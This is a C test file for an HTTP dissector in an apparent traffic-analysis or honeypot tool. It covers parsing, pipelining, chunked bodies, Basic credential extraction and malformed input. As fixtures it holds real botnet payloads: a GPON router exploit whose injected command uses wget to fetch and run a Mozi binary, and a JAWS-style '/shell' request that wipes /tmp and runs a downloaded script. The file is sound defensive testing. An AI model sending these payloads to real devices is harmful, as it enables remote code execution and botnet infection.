/* HTTP dissector: requests as curl, wget and scanners send them (curl's
 * captured on a loopback), pipelining, bodies by Content-Length and by
 * chunks (SHA-256 values computed with python3 hashlib), Basic credentials,
 * responses, and cut or malformed variants. */
#include <stdlib.h>
#include <string.h>

#include "analyze/record.h"
#include "proto/proto.h"
#include "proto/registry.h"
#include "t.h"

static void rec_set2(struct record *r, const char *c, size_t clen, const char *s, size_t slen)
{
	record_free(r);
	record_init(r);
	r->proto = 6;
	r->sport = 40000;
	r->dport = 8080;
	r->payload = malloc(clen + 1);
	memcpy(r->payload, c, clen);
	r->payload_len = clen;
	if (s) {
		r->server_payload = malloc(slen + 1);
		memcpy(r->server_payload, s, slen);
		r->server_payload_len = slen;
	}
}

static void rec_set(struct record *r, const char *c)
{
	rec_set2(r, c, strlen(c), NULL, 0);
}

/* The value of "key" in the extra members (first match, or the first after
 * `after` if given), as text: a string's characters or a number's digits. */
static const char *jget_after(const struct record *r, const char *after, const char *key)
{
	static char out[4096];
	char pat[96];
	const char *s, *e;
	size_t n;

	buf_cstr((struct buf *)&r->extra);
	s = r->extra.p ? (const char *)r->extra.p : NULL;
	if (s && after)
		s = strstr(s, after);
	snprintf(pat, sizeof(pat), "\"%s\":", key);
	s = s ? strstr(s, pat) : NULL;
	if (!s)
		return NULL;
	s += strlen(pat);
	if (*s == '"') {
		for (e = ++s; *e && *e != '"'; e++)
			if (*e == '\\' && e[1])
				e++;
	} else {
		e = s + strcspn(s, ",}]");
	}
	n = (size_t)(e - s) < sizeof(out) - 1 ? (size_t)(e - s) : sizeof(out) - 1;
	memcpy(out, s, n);
	out[n] = 0;
	return out;
}

static const char *jget(const struct record *r, const char *key)
{
	return jget_after(r, NULL, key);
}

static bool has(const struct record *r, const char *needle)
{
	buf_cstr((struct buf *)&r->extra);
	return r->extra.p && strstr((const char *)r->extra.p, needle);
}

static void check_json(const struct record *r)
{
	struct buf b = {0};
	CHECK(record_to_json(r, &b) == 0 && b.len > 2);
	buf_free(&b);
}

/* curl 7.88 -A ... -u admin:s3cret http://127.0.0.1:8080/login, captured. */
static const char curl_req[] = "GET /login HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
			       "Authorization: Basic YWRtaW46czNjcmV0\r\n"
			       "User-Agent: Mozilla/5.0 (mitsu-test)\r\nAccept: */*\r\n\r\n";

static void test_curl(struct record *r)
{
	rec_set(r, curl_req);
	CHECK(proto_dissect(r) == &proto_http);
	CHECK_STR(r->service, "http");
	CHECK_STR(jget(r, "method"), "GET");
	CHECK_STR(jget(r, "uri"), "/login");
	CHECK_STR(jget(r, "version"), "HTTP/1.1");
	CHECK_STR(jget(r, "host"), "127.0.0.1:8080");
	CHECK_STR(jget(r, "user_agent"), "Mozilla/5.0 (mitsu-test)");
	CHECK_STR(jget(r, "header_count"), "4");
	CHECK(has(r, "\"headers\":[[\"Host\",\"127.0.0.1:8080\"],[\"Authorization\",\"Basic "
		     "YWRtaW46czNjcmV0\"],[\"User-Agent\",\"Mozilla/5.0 (mitsu-test)\"],[\"Accept\","
		     "\"*/*\"]]"));
	CHECK_STR(jget(r, "body_len"), "0");
	CHECK(jget(r, "body_sha256") == NULL);
	CHECK_STR(jget(r, "auth"), "Basic");
	CHECK_INT(r->ncreds, 1);
	CHECK_STR(r->creds[0].proto, "http");
	CHECK_STR(r->creds[0].user, "admin");
	CHECK_STR(r->creds[0].pass, "s3cret");
	CHECK(jget(r, "requests") == NULL);
	CHECK(jget(r, "incomplete") == NULL);
	check_json(r);
}

/* The GPON router exploit (CVE-2018-10561/10562) as Mozi sends it, on a
 * port no one runs HTTP on. */
static void test_gpon_post(struct record *r)
{
	static const char body[] =
		"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://"
		"192.0.2.7:8080/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0";
	char req[1024];

	snprintf(req, sizeof(req),
		 "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:80\r\n"
		 "Connection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\n"
		 "User-Agent: Hello, World\r\nContent-Length: %zu\r\n\r\n%s",
		 strlen(body), body);
	rec_set(r, req);
	r->dport = 7547;
	CHECK(proto_dissect(r) == &proto_http);
	CHECK_STR(jget(r, "method"), "POST");
	CHECK_STR(jget(r, "uri"), "/GponForm/diag_Form?images/");
	CHECK_STR(jget(r, "user_agent"), "Hello, World");
	CHECK_STR(jget(r, "content_length"), "133");
	CHECK_STR(jget(r, "body_len"), "133");
	CHECK_STR(jget(r, "body_sha256"),
		  "a6efb9c8099e3dc9c867408fc00cc6b6c5540c0657f067232424eed1b513c6b4");
	CHECK(jget(r, "trailing_bytes") == NULL);
}

/* Three requests in one connection (as wget -i or a scanner pipelines). */
static void test_pipelined(struct record *r)
{
	rec_set(r, "GET / HTTP/1.1\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
		   "Accept-Encoding: identity\r\nHost: a.test\r\nConnection: Keep-Alive\r\n\r\n"
		   "POST /cgi-bin/x HTTP/1.1\r\nHost: b.test\r\nContent-Length: 10\r\n"
		   "Authorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n0123456789"
		   "HEAD /robots.txt HTTP/1.0\r\nAuthorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n");
	CHECK(proto_dissect(r) == &proto_http);
	CHECK_STR(jget(r, "method"), "GET");
	CHECK_STR(jget(r, "user_agent"), "Wget/1.21.3");
	CHECK_STR(jget(r, "host"), "a.test");
	CHECK_STR(jget(r, "request_count"), "3");
	CHECK_STR(jget_after(r, "\"requests\"", "method"), "GET");
	CHECK_STR(jget_after(r, "\"uri\":\"/cgi-bin/x\"", "host"), "b.test");
	CHECK_STR(jget_after(r, "\"uri\":\"/cgi-bin/x\"", "body_sha256"),
		  "84d89877f0d4041efb6bf91a16f0248f2fd573e6af05c19f96bedb9f882f7882");
	CHECK_STR(jget_after(r, "\"uri\":\"/robots.txt\"", "version"), "HTTP/1.0");
	/* The same pair twice is one credential. */
	CHECK_INT(r->ncreds, 1);
	CHECK_STR(r->creds[0].user, "root");
	CHECK_STR(r->creds[0].pass, "xc3511");
	check_json(r);
}

static void test_chunked(struct record *r)
{
	rec_set(r, "PUT /up HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
		   "b\r\nhello world\r\n"
		   "A;ext=1\r\n, chunked!\r\n"
		   "0\r\nX-Trailer: 1\r\n\r\n"
		   "GET /next HTTP/1.1\r\n\r\n");
	proto_dissect(r);
	CHECK_STR(jget(r, "chunked"), "true");
	CHECK_STR(jget(r, "body_len"), "21");
	CHECK_STR(jget(r, "body_sha256"),
		  "cda12f41c24467ee0445c8d23cff81f56b0c58e6d33ff9fb69f8d1a4b0cdacce");
	CHECK_STR(jget(r, "request_count"), "2");
	/* Chunks cut short. */
	rec_set(r, "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n100\r\nabc");
	proto_dissect(r);
	CHECK_STR(jget(r, "body_len"), "3");
	CHECK_STR(jget(r, "body_truncated"), "true");
}

static void test_cut(struct record *r)
{
	/* Content-Length larger than what came. */
	rec_set(r, "POST /a HTTP/1.1\r\nContent-Length: 100\r\n\r\n0123456789");
	proto_dissect(r);
	CHECK_STR(jget(r, "body_len"), "10");
	CHECK_STR(jget(r, "body_truncated"), "true");
	CHECK_STR(jget(r, "body_sha256"),
		  "84d89877f0d4041efb6bf91a16f0248f2fd573e6af05c19f96bedb9f882f7882");
	/* Headers that never end. */
	rec_set(r, "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: zgrab/0.x");
	CHECK(proto_dissect(r) == &proto_http);
	CHECK_STR(jget(r, "host"), "x");
	CHECK_STR(jget(r, "incomplete"), "true");
	/* A request line cut before its version: still HTTP, less sure. */
	rec_set(r, "GET /index.html HT");
	CHECK_INT(proto_http.detect(r), 40);
	proto_dissect(r);
	CHECK_STR(r->service, "http");
	check_json(r);
	/* Every prefix of a real request dissects without trouble. */
	int bad = 0;
	for (size_t n = 1; n < sizeof(curl_req) - 1; n++) {
		struct buf b = {0};
		rec_set2(r, curl_req, n, NULL, 0);
		proto_dissect(r);
		bad += record_to_json(r, &b) != 0;
		buf_free(&b);
	}
	CHECK_INT(bad, 0);
	/* Body without Content-Length: not a body, counted as trailing bytes. */
	rec_set(r, "POST /x HTTP/1.0\r\n\r\n\x01\x02garbage");
	proto_dissect(r);
	CHECK_STR(jget(r, "body_len"), "0");
	CHECK_STR(jget(r, "trailing_bytes"), "9");
}

static void test_headers_bounded(struct record *r)
{
	char req[16384];
	size_t n;
	char big[1000];

	memset(big, 'v', sizeof(big) - 1);
	big[sizeof(big) - 1] = 0;
	n = (size_t)snprintf(req, sizeof(req), "GET / HTTP/1.1\r\nX-Big: %s\r\n", big);
	for (int i = 0; i < 40; i++)
		n += (size_t)snprintf(req + n, sizeof(req) - n, "X-H%d: %d\r\n", i, i);
	snprintf(req + n, sizeof(req) - n, "\r\n");
	rec_set(r, req);
	proto_dissect(r);
	CHECK_STR(jget(r, "header_count"), "41");
	CHECK_STR(jget(r, "headers_truncated"), "true");
	CHECK(has(r, "[\"X-H30\",\"30\"]"));
	CHECK(!has(r, "[\"X-H31\",\"31\"]")); /* the 33rd header */
	{
		const char *v = strstr((const char *)r->extra.p, "[\"X-Big\",\"");
		size_t vlen = v ? strcspn(v + 10, "\"") : 0;
		CHECK_INT(vlen, 256);
	}
}

static void test_methods(struct record *r)
{
	static const char *const yes[] = {
		"PROPFIND / HTTP/1.1\r\n\r\n", "OPTIONS * HTTP/1.1\r\n\r\n",
		"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n",
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "TRACE /  HTTP/1.1\r\n\r\n",
		"GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.7/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n",
	};
	static const char *const no[] = {
		"OPTIONS rtsp://x/ RTSP/1.0\r\n\r\n", "INVITE sip:a@b SIP/2.0\r\n\r\n",
		"SSH-2.0-OpenSSH\r\n", "\x16\x03\x01\x00\x05\x01", "get / http/1.1\r\n\r\n",
		"GET  HTTP/1.1\r\n", "", "HTTP/1.1 200 OK\r\n\r\n",
	};

	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++) {
		rec_set(r, yes[i]);
		CHECK_INT(proto_http.detect(r), 95);
	}
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++) {
		rec_set(r, no[i]);
		CHECK_INT(proto_http.detect(r), 0);
	}
	rec_set(r, "GET / HTTP/1.1x\r\n"); /* a known method and a path, odd version */
	CHECK_INT(proto_http.detect(r), 40);
	rec_set(r, "FOOBAR /x HTTP/1.0\r\n\r\n"); /* unknown method, right shape */
	CHECK_INT(proto_http.detect(r), 70);
	rec_set(r, "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n");
	proto_dissect(r);
	CHECK_STR(jget(r, "uri"), "example.com:443");
}

static void test_auth_variants(struct record *r)
{
	/* Unpadded base64, a password-less user, a proxy credential. */
	rec_set(r, "GET / HTTP/1.1\r\nAuthorization: basic  YWRtaW46\r\n"
		   "Proxy-Authorization: Basic cHJveHl1c2VyOnB3\r\n\r\n"
		   "GET / HTTP/1.1\r\nAuthorization: Basic cm9vdDp4YzM1MTE\r\n\r\n");
	proto_dissect(r);
	CHECK_INT(r->ncreds, 2);
	CHECK_STR(r->creds[0].user, "admin");
	CHECK_STR(r->creds[0].pass, "");
	CHECK_STR(r->creds[1].user, "root");
	CHECK_STR(r->creds[1].pass, "xc3511");
	/* Not base64; another scheme: no credential, no trouble. */
	rec_set(r, "GET / HTTP/1.1\r\nAuthorization: Basic !!!notb64***\r\n\r\n"
		   "GET / HTTP/1.1\r\nAuthorization: Digest username=\"u\", realm=\"r\"\r\n\r\n");
	proto_dissect(r);
	CHECK_INT(r->ncreds, 0);
	CHECK_STR(jget(r, "auth"), "Basic");
}

static void test_response(struct record *r)
{
	static const char req[] = "GET / HTTP/1.1\r\nHost: h\r\n\r\n";
	static const char resp[] = "HTTP/1.1 401 Unauthorized\r\nServer: nginx/1.22.1\r\n"
				   "WWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\n\r\n";

	rec_set2(r, req, strlen(req), resp, strlen(resp));
	proto_dissect(r);
	CHECK_STR(jget_after(r, "\"response\"", "status"), "401");
	CHECK_STR(jget_after(r, "\"response\"", "reason"), "Unauthorized");
	CHECK_STR(jget_after(r, "\"response\"", "server"), "nginx/1.22.1");
	CHECK_STR(jget_after(r, "\"response\"", "version"), "HTTP/1.1");
	/* A server that is not HTTP: no response member. */
	rec_set2(r, req, strlen(req), "SSH-2.0-x\r\n", 11);
	proto_dissect(r);
	CHECK(jget(r, "response") == NULL);
	/* A cut status line. */
	rec_set2(r, req, strlen(req), "HTTP/1.1 2", 10);
	proto_dissect(r);
	CHECK(jget(r, "response") != NULL && jget_after(r, "\"response\"", "status") == NULL);
	check_json(r);
}

/* Attacker bytes in every field: the output stays valid JSON. */
static void test_hostile_bytes(struct record *r)
{
	static const char req[] = "GET /\xff\xfe\"\\\x01 HTTP/1.1\r\nHost: \xc0\xaf\r\n"
				  "User-Agent: \x1b[31mred\r\nX\x00Y: \x7f\r\n\r\n";

	rec_set2(r, req, sizeof(req) - 1, NULL, 0);
	CHECK(proto_dissect(r) == &proto_http);
	CHECK(has(r, "\"uri\":\"/\xef\xbf\xbd\xef\xbf\xbd\\\"\\\\\\u0001\""));
	CHECK(has(r, "\"user_agent\":\"\\u001b[31mred\""));
	check_json(r);
}

int main(void)
{
	struct record r;

	record_init(&r);
	test_curl(&r);
	test_gpon_post(&r);
	test_pipelined(&r);
	test_chunked(&r);
	test_cut(&r);
	test_headers_bounded(&r);
	test_methods(&r);
	test_auth_variants(&r);
	test_response(&r);
	test_hostile_bytes(&r);
	record_free(&r);
	return T_DONE();
}
